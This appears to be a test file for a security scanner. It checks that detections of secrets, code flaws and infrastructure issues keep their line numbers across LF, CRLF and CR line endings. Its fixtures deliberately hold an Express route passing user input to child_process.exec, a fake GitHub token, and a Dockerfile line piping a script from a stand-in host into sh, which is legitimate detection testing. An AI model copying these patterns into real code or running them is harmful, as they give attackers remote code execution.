// Whatever ends the lines of a file: what stands in it is found at the same lines, and the source's bytes stay as they are.
import { scan } from '@assay/core';
import t from 'tap';
import { fakeChecksummed } from '../../../../../packages/core/src/scan/engines/secrets/fake-secret.ts';
import { toScannableText } from '../../../../../packages/core/src/scan/engines/secrets/text-encoding.ts';

t.test('line ends: secrets, code and infrastructure are found at the same places', async (t) => {
  const files = {
    'app.js': [
      'const cp = require("child_process");',
      'const app = require("express")();',
      'app.get("/", (q, r) => cp.exec(q.query.a));',
      `const token = "${fakeChecksummed('ghp_')}";`,
    ],
    Dockerfile: ['FROM debian:13', 'RUN curl http://x.example/a.sh | sh', `ENV T=${fakeChecksummed('ghp_')}`],
  };
  const found = async (lineEnd: string) => {
    const texts = Object.entries(files).map(([name, lines]) => [name, lines.join(lineEnd) + lineEnd]);
    const path = t.testdir(Object.fromEntries(texts));
    const { audits } = await scan({ kind: 'path', path }, { types: ['security'] });
    return audits
      .flatMap(({ findings }) => findings)
      .map(
        ({ ruleId, location, excerpt }) =>
          `${ruleId} ${location?.path}:${location?.startLine} ${JSON.stringify(excerpt)}`,
      )
      .sort();
  };

  const expected = await found('\n');

  for (const place of ['app.js:3', 'app.js:4', 'Dockerfile:2', 'Dockerfile:3'])
    t.ok(
      expected.some((one) => one.includes(` ${place} `)),
      `${place}\n${expected.join('\n')}`,
    );
  for (const lineEnd of ['\r\n', '\r']) t.strictSame(await found(lineEnd), expected, JSON.stringify(lineEnd));
});

t.test('line ends: every place keeps its offset, and the bytes of the source stay', async (t) => {
  const bytes = Buffer.from('a\rb\r\nc\r\rd\r');

  t.equal(toScannableText(bytes)?.toString(), 'a\nb\r\nc\n\nd\n');
  t.equal(bytes.toString(), 'a\rb\r\nc\r\rd\r');
  t.equal(
    toScannableText(Buffer.from('\ufeffkey: 1\rother: 2\r', 'utf16le'))?.toString(),
    'key: 1\nother: 2\n',
  );
  const usual = Buffer.from('a\r\nb\n');
  t.equal(toScannableText(usual), usual, 'not copied');
});
